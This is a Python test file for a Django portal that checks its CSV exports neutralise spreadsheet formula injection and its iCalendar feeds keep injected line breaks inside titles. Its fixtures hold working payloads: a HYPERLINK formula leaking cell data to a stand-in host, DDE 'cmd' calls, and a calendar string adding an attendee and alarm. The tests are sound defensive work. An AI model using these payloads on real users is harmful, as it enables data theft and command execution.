"""Exports are not HTML, but what they carry must not turn into code either (issue 6, "Bad input").

CSV: a cell starting with = + - @ (or a tab or carriage return) is a formula to Excel and LibreOffice (CWE-1236), so
exports prefix such text with an apostrophe, as OWASP advises. iCalendar: a title cannot add properties or alarms.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar

from tests.factories import CallFactory, EventFactory, MatchFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def days(n: int) -> datetime.date:
    return timezone.localdate() + datetime.timedelta(days=n)


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode())))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    live = [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not live, f"cells a spreadsheet would run: {live}"


@pytest.fixture
def formula_calls(db):
    """Published calls whose title, Japanese title and venue each start like a formula."""
    return [
        CallFactory(slug=f"formula-{i}", title=formula, title_ja=formula, venue=formula, closes_on=days(10 + i))
        for i, formula in enumerate(FORMULAS)
    ]


def test_opportunity_export_neutralises_formula_cells(anon_client, formula_calls):
    rows = csv_rows(anon_client.get(reverse("programmes:opportunity_export"), {"open": ""}))

    assert_no_formula_cells(rows)
    header = rows[0]
    titles = {row[header.index("title")] for row in rows[1:]}
    assert titles == {"'" + formula for formula in FORMULAS}  # kept, readable, but as text


def test_opportunity_export_keeps_ordinary_text_and_numbers_as_they_are(alice_client, firm_a, db):
    call = CallFactory(slug="plain", title="Laser call - phase 2", closes_on=days(5))
    MatchFactory(company=firm_a, opportunity=call, score=61.0)

    rows = csv_rows(alice_client.get(reverse("programmes:opportunity_export"), {"open": ""}))

    header, row = rows[0], rows[1]
    assert row[header.index("title")] == "Laser call - phase 2"
    assert row[header.index("score")] == "61.0"


def test_match_export_neutralises_formula_cells_in_titles_reasons_and_gaps(alice_client, firm_a, formula_calls):
    for call, formula in zip(formula_calls, FORMULAS, strict=True):
        MatchFactory(company=firm_a, opportunity=call, reasons=[formula], gaps=[formula])

    rows = csv_rows(alice_client.get(reverse("matching:match_export")))

    assert_no_formula_cells(rows)
    header = rows[0]
    assert {row[header.index("reasons")] for row in rows[1:]} == {"'" + formula for formula in FORMULAS}
    assert {row[header.index("gaps")] for row in rows[1:]} == {"'" + formula for formula in FORMULAS}


INJECTED_TITLE = "Evil call\r\nATTENDEE:mailto:attacker@evil.example\r\nBEGIN:VALARM\r\nACTION:DISPLAY"
AS_READ = INJECTED_TITLE.replace("\r\n", "\n")  # iCalendar TEXT escapes a line break as \n, read back as one LF


def _events(response) -> list:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/calendar")
    body = response.content.decode()
    for line in body.splitlines():
        assert not line.startswith(("ATTENDEE", "BEGIN:VALARM", "ACTION")), line
    return list(Calendar.from_ical(body).walk("VEVENT"))


def test_calendar_feed_keeps_line_breaks_in_titles_inside_the_title(anon_client, db):
    CallFactory(slug="evil-call", title=INJECTED_TITLE, summary=INJECTED_TITLE, closes_on=days(10))
    EventFactory(slug="evil-event", title=INJECTED_TITLE, venue=INJECTED_TITLE, starts_on=days(20), ends_on=days(21))

    events = _events(anon_client.get(reverse("portal:calendar_feed")))

    assert len(events) == 2
    for event in events:
        assert "ATTENDEE" not in event
        assert not event.subcomponents
        assert AS_READ in str(event["SUMMARY"])
    assert str(next(e for e in events if "LOCATION" in e)["LOCATION"]) == AS_READ


def test_firm_feed_serves_a_firm_name_with_line_breaks_as_one_escaped_name(alice_client, firm_a):
    # A name can hold a line break (a quoted CSV field, the API); the feed's name once failed with a 500.
    type(firm_a).objects.filter(pk=firm_a.pk).update(name=INJECTED_TITLE)
    MatchFactory(company=firm_a, opportunity=CallFactory(slug="fine-call", closes_on=days(10)))

    response = alice_client.get(reverse("portal:company_calendar_feed", kwargs={"slug": firm_a.slug}))

    events = _events(response)
    assert len(events) == 1
    assert "ATTENDEE" not in events[0]
    assert not events[0].subcomponents
    assert "X-WR-CALNAME:Kakehashi: deadlines for Evil call\\nATTENDEE:" in response.content.decode()
